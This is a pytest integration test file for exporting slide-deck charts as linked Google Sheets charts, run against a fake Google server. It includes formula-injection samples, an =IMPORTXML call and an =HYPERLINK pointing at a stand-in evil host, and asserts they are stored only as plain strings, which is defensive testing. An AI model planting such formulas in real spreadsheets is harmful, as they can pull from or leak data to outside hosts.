"""Charts in the Google Slides export: native Google Sheets charts linked into the slides, on
SQLite and PostgreSQL, through the real google-api-python-client (static sheets.v4 and slides.v1
discovery documents) against the fake Google on 127.0.0.1 (tests/fakes/google_server and
google_sheets).

One spreadsheet per deck with one sheet and chart per chart, `createSheetsChart` (LINKED) at the
chart's slide and box, the spreadsheet and presentation reused on re-export (or made again when
deleted), text sent only as string values, and every failure falling back to a native table with
a warning naming the slide.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import select

from slidegen.db import migrate
from slidegen.db.database import Database
from slidegen.db.models import GooglePresentation, UserSession
from slidegen.deck import chart_figure
from slidegen.export.gslides import plan_deck
from slidegen.services.jobs.pool import JobRunner
from tests.conftest import DatabaseFactory
from tests.fakes.google_server import FakeGoogle, Recorded
from tests.integration.test_google_slides_export import (
    ALICE,
    _connect,
    _deck,
    _export,
    _requests,
    _settings,
    _store,
)

STACKED = {
    "type": "stacked",
    "title": "Cost by team",
    "categories": ["Q1", "Q2", "Q3"],
    "series": [
        {"name": "Data", "values": [10, 12, 14]},
        {"name": "ML", "values": [4, 6, None]},
    ],
    "x_title": "Quarter",
    "y_title": "USD",
    "colors": ["#112233", "#445566"],
}
DOUGHNUT = {
    "type": "doughnut",
    "title": "Share",
    "categories": ["Jobs", "SQL"],
    "series": [{"name": "Share", "values": [60, 40]}, {"name": "Ignored", "values": [1, 2]}],
}
HOSTILE = ['=IMPORTXML("https://evil.example/x","//a")', "+1", "-2", "@me"]
LINE = {
    "type": "line",
    "title": "=1+1",
    "categories": HOSTILE,
    "series": [{"name": '=HYPERLINK("https://evil.example")', "values": [1, 2, 3, 4]}],
}
DECK_HTML = f"""
<div class="slide"><h1>Charts</h1><p>Three of them</p></div>
<div class="slide"><h2>By team</h2>{chart_figure(STACKED)}</div>
<div class="slide"><h2>Mix</h2>{chart_figure(DOUGHNUT)}{chart_figure(LINE)}</div>
"""


@pytest.fixture(scope="module")
def google() -> Iterator[FakeGoogle]:
    fake = FakeGoogle().start()
    yield fake
    fake.stop()


@pytest.fixture(scope="module")
def database(backend: str, databases: DatabaseFactory, google: FakeGoogle) -> Iterator[Database]:
    db = Database(_settings(databases.url(backend), google))
    migrate.upgrade(db.engine)
    yield db
    db.dispose()


@pytest.fixture(scope="module")
def runner(database: Database) -> Iterator[JobRunner]:
    job_runner = JobRunner(database, database.settings, max_workers=1)
    yield job_runner
    job_runner.shutdown()


def _slides_updates(calls: list[Recorded]) -> list[dict[str, Any]]:
    return _requests([c for c in calls if c.path.startswith("/v1/") and ":batchUpdate" in c.path])


def _sheets_calls(calls: list[Recorded], suffix: str = "") -> list[Recorded]:
    return [c for c in calls if c.path.startswith("/v4/") and c.path.endswith(suffix)]


def _stored_spreadsheet(db: Database, session_id: str) -> str | None:
    with db.scope() as session:
        return session.scalar(
            select(GooglePresentation.spreadsheet_id)
            .join(UserSession, UserSession.id == GooglePresentation.session_id)
            .where(UserSession.session_id == session_id, GooglePresentation.user_name == ALICE.name)
        )


def _charts(google: FakeGoogle, spreadsheet_id: str) -> dict[int, dict[str, Any]]:
    book = google.sheets.spreadsheets[spreadsheet_id]
    return {cid: chart["spec"] for sheet in book.sheets for cid, chart in sheet.charts.items()}


def test_charts_are_linked_from_one_spreadsheet_that_reexport_reuses(
    database: Database, runner: JobRunner, google: FakeGoogle
) -> None:
    _connect(database, google, ALICE)
    deck = _deck(DECK_HTML, title="Q4 plan")
    session_id = _store(database, deck)
    before = len(google.requests)
    job = _export(database, runner, ALICE, session_id)
    assert job.status == "completed", job.error_message
    calls = google.requests[before:]

    # One spreadsheet, named after the deck, with an About sheet and one sheet per chart.
    (create,) = [c for c in calls if c.path == "/v4/spreadsheets"]
    assert create.body["properties"]["title"] == "Q4 plan — chart data"
    assert len(_sheets_calls(calls, ":batchUpdate")) == 1
    sid = _stored_spreadsheet(database, session_id)
    assert sid is not None
    book = google.sheets.spreadsheets[sid]
    assert [s.title for s in book.sheets] == ["About", "Slide 2", "Slide 3", "Slide 3 (2)"]
    specs = _charts(google, sid)
    assert len(specs) == 3 and all(len(s.charts) == 1 for s in book.sheets[1:])
    stacked, doughnut, line = (next(iter(s.charts.values()))["spec"] for s in book.sheets[1:])
    assert stacked["basicChart"]["chartType"] == "COLUMN"
    assert stacked["basicChart"]["stackedType"] == "STACKED"
    assert stacked["title"] == "Cost by team"
    axes = {a["position"]: a["title"] for a in stacked["basicChart"]["axis"]}
    assert axes == {"BOTTOM_AXIS": "Quarter", "LEFT_AXIS": "USD"}
    colours = [s["colorStyle"]["rgbColor"] for s in stacked["basicChart"]["series"]]
    assert colours[0] == {"red": 0.0667, "green": 0.1333, "blue": 0.2}  # #112233
    assert doughnut["pieChart"]["pieHole"] == 0.5
    assert line["basicChart"]["chartType"] == "LINE" and line["title"] == "=1+1"
    assert book.sheets[1].cells[(2, 2)]["userEnteredValue"] == {"numberValue": 6}
    assert book.sheets[1].cells[(3, 2)] == {}  # a missing value stays an empty cell

    # Text from the deck is only ever a string value: "=..." is not a formula.
    sent = json.dumps([c.body for c in _sheets_calls(calls)])
    assert "formulaValue" not in sent
    cells = book.sheets[3].cells
    assert [cells[(r, 0)]["userEnteredValue"] for r in range(1, 5)] == [
        {"stringValue": label} for label in HOSTILE
    ]
    assert cells[(0, 1)]["userEnteredValue"] == {"stringValue": LINE["series"][0]["name"]}

    # Each chart is linked on its own slide, in the box the shared layout model gives it.
    slides = _slides_updates(calls)
    pages = [r["createSlide"]["objectId"] for r in slides if "createSlide" in r]
    linked = [r["createSheetsChart"] for r in slides if "createSheetsChart" in r]
    assert not [r for r in slides if "createTable" in r]
    slots = [slot for plan in plan_deck(deck, prefix="expected") for slot in plan.charts]
    assert len(linked) == len(slots) == 3
    for request, slot, chart_id in zip(linked, slots, specs, strict=True):
        assert request["linkingMode"] == "LINKED"
        assert request["spreadsheetId"] == sid and request["chartId"] == chart_id
        placed = request["elementProperties"]
        assert placed["pageObjectId"] == pages[slot.slide_number - 1]
        assert placed["size"] == slot.properties["size"]
        assert placed["transform"] == slot.properties["transform"]
    pid = job.result_url.split("/d/")[1].split("/")[0]
    assert {e for s in google.presentations[pid].slides for e in s.elements} >= {
        r["objectId"] for r in linked
    }
    assert job.warnings == ["Slide 3: chart 'Share': only the first series of a pie or "
                            "doughnut chart is shown"]  # fmt: skip

    # Re-export: the same presentation and spreadsheet, its chart sheets replaced.
    before, books = len(google.requests), len(google.sheets.spreadsheets)
    again = _export(database, runner, ALICE, session_id)
    assert again.status == "completed" and again.result_url == job.result_url
    calls = google.requests[before:]
    assert not [c for c in calls if c.path in ("/v4/spreadsheets", "/v1/presentations")]
    assert [c.method for c in _sheets_calls(calls)] == ["GET", "POST"]
    (update,) = _sheets_calls(calls, ":batchUpdate")
    deleted = {r["deleteSheet"]["sheetId"] for r in update.body["requests"] if "deleteSheet" in r}
    assert deleted == {s.sheet_id for s in book.sheets[1:]}
    assert len(google.sheets.spreadsheets) == books
    now = google.sheets.spreadsheets[sid]
    assert [s.title for s in now.sheets] == ["About", "Slide 2", "Slide 3", "Slide 3 (2)"]
    relinked = [r["createSheetsChart"] for r in _slides_updates(calls) if "createSheetsChart" in r]
    assert [r["chartId"] for r in relinked] == list(_charts(google, sid))
    assert not set(_charts(google, sid)) & set(specs)
    assert _stored_spreadsheet(database, session_id) == sid


def test_every_chart_type_becomes_its_sheets_chart(
    database: Database, runner: JobRunner, google: FakeGoogle
) -> None:
    _connect(database, google, ALICE)
    kinds = ["bar", "column", "stacked", "line", "area", "pie", "doughnut", "scatter"]
    figures = "".join(
        f'<div class="slide"><h2>{kind}</h2>'
        + chart_figure(
            {
                "type": kind,
                "title": kind,
                "categories": [1, 2, 3],
                "series": [{"name": "a", "values": [3, 1, 2]}],
            }
        )  # fmt: skip
        + "</div>"
        for kind in kinds
    )
    session_id = _store(database, _deck(figures, title="All kinds"))
    job = _export(database, runner, ALICE, session_id)
    assert job.status == "completed", job.error_message
    assert not job.warnings
    sid = _stored_spreadsheet(database, session_id)
    assert sid is not None
    specs = [
        next(iter(s.charts.values()))["spec"] for s in google.sheets.spreadsheets[sid].sheets[1:]
    ]
    drawn = [
        (s["basicChart"]["chartType"], s["basicChart"].get("stackedType"))
        if "basicChart" in s
        else ("PIE", s["pieChart"].get("pieHole", 0))
        for s in specs
    ]
    assert drawn == [
        ("BAR", "NOT_STACKED"),
        ("COLUMN", "NOT_STACKED"),
        ("COLUMN", "STACKED"),
        ("LINE", None),
        ("AREA", "NOT_STACKED"),
        ("PIE", 0),
        ("PIE", 0.5),
        ("SCATTER", None),
    ]
    scatter = google.sheets.spreadsheets[sid].sheets[-1].cells
    assert scatter[(1, 0)]["userEnteredValue"] == {"numberValue": 1.0}  # x values are numbers


def test_a_sheets_failure_leaves_the_charts_as_tables_with_a_warning(
    database: Database, runner: JobRunner, google: FakeGoogle
) -> None:
    _connect(database, google, ALICE)
    session_id = _store(database, _deck(DECK_HTML))
    google.sheets.fail_batch_update_with = 500
    before = len(google.requests)
    try:
        job = _export(database, runner, ALICE, session_id)
    finally:
        google.sheets.fail_batch_update_with = None
    assert job.status == "completed", job.error_message
    slides = _slides_updates(google.requests[before:])
    assert not [r for r in slides if "createSheetsChart" in r]
    assert len([r for r in slides if "createTable" in r]) == 3
    suffix = "exported as a native table of its data (Google Sheets refused it: HTTP 500)"
    assert job.warnings == [
        f"Slide 2: chart 'Cost by team' {suffix}",
        f"Slide 3: chart 'Share' {suffix}",
        f"Slide 3: chart '=1+1' {suffix}",
    ]
    assert "Traceback" not in json.dumps(job.warnings)
    # The spreadsheet was made before the failure: the next export fills that one.
    sid = _stored_spreadsheet(database, session_id)
    assert sid in google.sheets.spreadsheets
    again = _export(database, runner, ALICE, session_id)
    assert again.status == "completed" and again.warnings[0].startswith("Slide 3: chart 'Share':")
    assert _stored_spreadsheet(database, session_id) == sid


def test_a_chart_sheets_cannot_draw_stays_a_table(
    database: Database, runner: JobRunner, google: FakeGoogle
) -> None:
    _connect(database, google, ALICE)
    scatter = {"type": "scatter", "title": "Odd", "categories": ["low", "high"],
               "series": [{"name": "y", "values": [1, 2]}]}  # fmt: skip
    html = DECK_HTML + f'<div class="slide"><h2>XY</h2>{chart_figure(scatter)}</div>'
    session_id = _store(database, _deck(html))
    before = len(google.requests)
    job = _export(database, runner, ALICE, session_id)
    assert job.status == "completed", job.error_message
    slides = _slides_updates(google.requests[before:])
    assert len([r for r in slides if "createSheetsChart" in r]) == 3
    assert len([r for r in slides if "createTable" in r]) == 1
    assert (
        "Slide 4: chart 'Odd' exported as a native table of its data (a scatter chart needs "
        "numbers on its x axis)"
    ) in job.warnings


def test_a_deleted_spreadsheet_is_made_again(
    database: Database, runner: JobRunner, google: FakeGoogle
) -> None:
    _connect(database, google, ALICE)
    session_id = _store(database, _deck(DECK_HTML, title="Gone"))
    assert _export(database, runner, ALICE, session_id).status == "completed"
    first = _stored_spreadsheet(database, session_id)
    google.sheets.delete(first)
    before = len(google.requests)
    job = _export(database, runner, ALICE, session_id)
    assert job.status == "completed", job.error_message
    creates = [c for c in google.requests[before:] if c.path == "/v4/spreadsheets"]
    assert len(creates) == 1
    second = _stored_spreadsheet(database, session_id)
    assert second != first and second in google.sheets.spreadsheets
    assert len(_charts(google, second)) == 3


def test_slides_refusing_the_linked_charts_falls_back_to_tables(
    database: Database, runner: JobRunner, google: FakeGoogle
) -> None:
    _connect(database, google, ALICE)
    session_id = _store(database, _deck(DECK_HTML))
    google.sheets.hidden_from_slides = True
    before = len(google.requests)
    try:
        job = _export(database, runner, ALICE, session_id)
    finally:
        google.sheets.hidden_from_slides = False
    assert job.status == "completed", job.error_message
    updates = [c for c in google.requests[before:] if c.path.startswith("/v1/")
               and c.path.endswith(":batchUpdate")]  # fmt: skip
    assert len(updates) == 2  # the refused batch (applied all or nothing), then the one with tables
    assert any("createSheetsChart" in r for r in updates[0].body["requests"])
    assert not any("createSheetsChart" in r for r in updates[1].body["requests"])
    pid = job.result_url.split("/d/")[1].split("/")[0]
    assert len(google.presentations[pid].slides) == 3
    assert (
        "Slide 2: chart 'Cost by team' exported as a native table of its data (Google Slides "
        "could not link the Sheets chart)"
    ) in job.warnings
